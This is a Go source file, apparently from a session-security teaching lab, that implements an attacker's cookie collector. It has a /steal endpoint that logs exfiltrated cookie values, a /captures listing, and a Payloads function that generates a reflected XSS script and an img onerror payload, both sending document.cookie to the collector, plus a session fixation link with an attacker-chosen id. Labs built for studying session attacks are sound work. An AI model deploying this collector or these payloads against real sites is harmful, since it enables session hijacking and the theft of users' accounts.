package handler

import (
	"log/slog"
	"net/http"
	"net/url"
	"strconv"

	"github.com/yndnr/sessionlab-go/internal/core/domain"
	"github.com/yndnr/sessionlab-go/internal/core/service"
	"github.com/yndnr/sessionlab-go/internal/server/httpserver/view"
	"github.com/yndnr/sessionlab-go/internal/telemetry/metric"
)

// DefaultCollectorPageCaptures is how many captures the collector page lists.
const DefaultCollectorPageCaptures = 20

// CollectorConfig configures the collector handler.
type CollectorConfig struct {
	App       string
	Collector *service.CollectorService
	// Views must escape; captured values are attacker controlled.
	Views view.Renderer
	// VictimURL is the vulnerable app base URL used in the fixation link.
	VictimURL string

	TrustProxy bool

	Logger  *slog.Logger
	Metrics *metric.Registry
}

// Collector serves the cookie collector.
type Collector struct {
	base
	cfg CollectorConfig
}

// NewCollector creates a collector handler.
func NewCollector(cfg CollectorConfig) *Collector {
	var metricsHandler http.Handler
	if cfg.Metrics != nil {
		metricsHandler = cfg.Metrics.Handler()
	}

	h := &Collector{
		base: newBase(cfg.App, cfg.Views, cfg.Logger, metricsHandler),
		cfg:  cfg,
	}
	h.registerRoutes()
	return h
}

// ServeHTTP implements http.Handler.
func (h *Collector) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.mux.ServeHTTP(w, r)
}

func (h *Collector) registerRoutes() {
	h.registerCommon()

	h.mux.HandleFunc("GET /{$}", h.handleIndex)
	h.mux.HandleFunc("GET /steal", h.handleSteal)
	h.mux.HandleFunc("GET /captures", h.handleCaptures)
}

// handleIndex handles GET /.
func (h *Collector) handleIndex(w http.ResponseWriter, r *http.Request) {
	base := baseURL(r)
	h.render(w, r, http.StatusOK, view.PageCollector, &view.Page{
		App:          h.cfg.App,
		Name:         "Captures",
		CollectorURL: base,
		Payloads:     Payloads(base, h.cfg.VictimURL),
		Captures:     h.cfg.Collector.Recent(DefaultCollectorPageCaptures),
	})
}

// handleSteal handles GET /steal?c=<value>.
func (h *Collector) handleSteal(w http.ResponseWriter, r *http.Request) {
	_, err := h.cfg.Collector.Capture(r.Context(), &service.CaptureRequest{
		Value:   r.URL.Query().Get("c"),
		Client:  ClientFromRequest(r, h.cfg.TrustProxy),
		Referer: r.Referer(),
	})
	if err != nil {
		h.internalError(w, r, err)
		return
	}
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	w.WriteHeader(http.StatusOK)
}

// handleCaptures handles GET /captures?limit=N.
func (h *Collector) handleCaptures(w http.ResponseWriter, r *http.Request) {
	limit := 0
	if s := r.URL.Query().Get("limit"); s != "" {
		n, err := strconv.Atoi(s)
		if err != nil || n < 0 {
			h.writeError(w, r, http.StatusBadRequest, domain.ErrMissingArgument.Code, "invalid limit")
			return
		}
		limit = n
	}

	captures := h.cfg.Collector.Recent(limit)
	h.writeJSON(w, r, http.StatusOK, &CapturesResponse{
		Count:    len(captures),
		Captures: captures,
	})
}

// Payloads returns the attack snippets shown on the collector page.
func Payloads(collectorURL, victimURL string) []view.Payload {
	steal := collectorURL + "/steal?c="
	return []view.Payload{
		{
			Name:  "Reflected XSS via /search?q=",
			Value: `<script>fetch('` + steal + `'+document.cookie)</script>`,
		},
		{
			Name:  "Image onerror via display name",
			Value: `<img src=x onerror="new Image().src='` + steal + `'+document.cookie">`,
		},
		{
			Name:  "Session fixation link",
			Value: victimURL + "/login?" + url.Values{SessionCookieName: {"attacker-chosen-id"}}.Encode(),
		},
	}
}

// baseURL is the scheme and host the request reached the collector on.
func baseURL(r *http.Request) string {
	if r.TLS != nil {
		return "https://" + r.Host
	}
	return "http://" + r.Host
}
